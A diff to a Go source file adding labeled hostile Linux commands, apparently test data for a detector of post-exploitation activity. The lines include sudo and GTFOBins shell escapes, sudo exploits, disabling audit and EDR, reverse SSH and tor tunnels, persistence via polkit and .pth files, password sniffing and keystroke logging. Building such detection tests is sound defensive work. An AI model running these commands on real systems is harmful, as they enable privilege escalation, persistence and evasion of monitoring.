@@ -230,6 +230,38 @@ setuid_files_searched|/usr/bin/find / -user root -perm -u=s
 kubelet_asked_by_command|/usr/bin/curl -k https://10.0.0.5:10250/run/kube-system/a/b -d cmd=id
 kubelet_asked_by_command|/usr/bin/etcdctl get /registry/secrets --prefix
 shell_profile_changed_by_command|/bin/sh -c "echo '/tmp/k &' >> /root/.bashrc"
+setuid_files_searched|/usr/sbin/getcap -r /
+user_added_with_rights|/bin/sed -i s/env_reset.*$/env_reset,timestamp_timeout=-1/ /etc/sudoers
+defences_switched_off|/bin/sed -i "$ d" /etc/audit/audit.rules
+defences_switched_off|/bin/sed -i "/^\$ModLoad imfile/d" /etc/rsyslog.conf
+defences_switched_off|/usr/sbin/iptables -t nat -F
+defences_switched_off|/usr/bin/systemctl stop elastic-agent
+tunnel|/usr/bin/curl -s http://abcdefghijklmnopqrstuvwxyz234567.onion/x
+tunnel|/usr/bin/autossh -M 0 -fN -R 2222:localhost:22 user@example.com
+shell_by_helper|/usr/bin/sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
+shell_by_helper|/usr/bin/lua -e "os.execute('/bin/sh')"
+shell_by_helper|/usr/bin/ruby -e "exec '/bin/sh'"
+shell_by_helper|/usr/bin/php -r "system('/bin/sh');"
+shell_by_helper|/usr/bin/node -e "require('child_process').spawn('/bin/sh',{stdio:[0,1,2]})"
+shell_by_helper|/usr/bin/mysql -e "\! /bin/sh"
+shell_by_helper|/usr/bin/expect -c "spawn /bin/sh;interact"
+shell_by_helper|/usr/bin/gcc -wrapper /bin/sh,-s .
+shell_by_helper|/usr/bin/ssh -o ProxyCommand=";sh 0<&2 1>&2" x
+shell_by_helper|/usr/bin/sudo env /bin/sh
+shell_by_helper|/usr/bin/sudo nice /bin/bash -p
+shell_by_helper|/usr/bin/sudo strace -o /dev/null /bin/sh
+shell_by_helper|/usr/bin/sudo capsh --
+shell_by_helper|/usr/bin/script -qc /bin/bash /dev/null
+exploit_run|/usr/bin/sudo -u#-1 /bin/bash
+exploit_run|/usr/bin/sudo -R woot woot
+service_made_by_command|/bin/sh -c "echo x > /etc/polkit-1/rules.d/00-a.rules"
+service_made_by_command|/usr/bin/python3 -c "open('/usr/lib/python3/dist-packages/zz.pth','w').write('import os')"
+decoded_and_run|/bin/sh -c "xxd -r -p /tmp/h.txt > /tmp/h && chmod +x /tmp/h && /tmp/h"
+host_disk_mounted|/bin/sh -c "d=$(fdisk -l | grep -m1 /dev/); mount ${d}1 /h"
+passwords_sniffed|/usr/bin/ngrep -q password port 80
+keystrokes_recorded|/bin/bash -c "export PROMPT_COMMAND='history -a >(tee -a /tmp/h)'"
+remote_management_joined|/usr/bin/anydesk --set-password
+service_account_given_group|/usr/bin/gpasswd -a www-data docker
 `
 
 func process(line string) []byte {
